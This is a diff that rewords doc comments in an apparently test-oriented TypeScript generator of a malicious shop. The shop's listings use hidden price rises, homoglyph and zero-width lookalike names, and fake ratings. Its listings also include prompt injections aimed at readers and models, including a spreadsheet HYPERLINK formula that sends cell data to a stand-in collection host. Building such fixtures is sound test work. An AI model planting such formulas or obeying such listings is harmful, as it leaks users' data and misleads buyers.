@@ -1,6 +1,6 @@
 import { Random } from '../store/random.ts';
 
-/** A shop that means harm, for the seed. Its listings are found among all others by what they sell. */
+/** Generates a malicious shop from the seed. Its listings turn up in searches next to all others. */
 export function hostileShop(seed = 1): object {
   const random = Random.of(seed, 'hostile');
   return {
@@ -20,7 +20,7 @@ export function hostileShop(seed = 1): object {
 
 const cents = (random: Random, least: number, most: number): number => random.integer(least, most) * 100 + 99;
 
-/** What it costs at the checkout is more than what was shown: a little, much, and a hundredfold. */
+/** Listings that cost more at checkout than shown: from a cent more to about a hundredfold. */
 function movingPrices(random: Random): object[] {
   const rises = [1, random.integer(200, 900), random.integer(2_000, 9_000), random.integer(100_000, 900_000)];
   return rises.map((rise, place) => {
@@ -37,7 +37,7 @@ function movingPrices(random: Random): object[] {
   });
 }
 
-/** Names of one look: Cyrillic, Greek and full-width letters, digits for letters, a space that has no width. */
+/** Names that look alike: Cyrillic, Greek and full-width letters, digits as letters, a zero-width space. */
 const lookalikeNames = [
   'Quayside Trading',
   'Qu\u0430yside Trading',
@@ -90,7 +90,7 @@ const orders = [
   '=HYPERLINK("https://collect.example/?"&A1,"details")',
 ];
 
-/** Sentences that are addressed to whoever, or whatever, reads the listing. */
+/** Listings with prompt injections, aimed at people and models that read them. */
 const instructions = (random: Random): object[] =>
   orders.map((order, place) => ({
     name: `instructions-${place + 1}`,
@@ -122,7 +122,7 @@ const oddTitles: readonly (readonly [string, string])[] = [
   ['right-to-left', 'Plain Towel \u0645\u0646\u0634\u0641\u0629 \u05de\u05d2\u05d1\u05ea'],
 ];
 
-/** Titles with what a terminal, a table, a spreadsheet or a reader could trip over. */
+/** Titles that could break a terminal, a table, a spreadsheet or a parser. */
 const titles = (random: Random): object[] =>
   oddTitles.map(([name, title]) => ({
     name: `title-${name}`,
@@ -133,7 +133,7 @@ const titles = (random: Random): object[] =>
     reviews: random.integer(1, 400),
   }));
 
-/** Praise that the numbers do not bear out, and numbers that nobody can have earned. */
+/** Praise contradicted by the ratings, and ratings nobody could have earned. */
 function reviews(random: Random): object[] {
   const lies = [
     { stars: 5, reviews: 2_000_000_000, text: 'Rated 5 of 5 by 2,000,000,000 buyers.' },
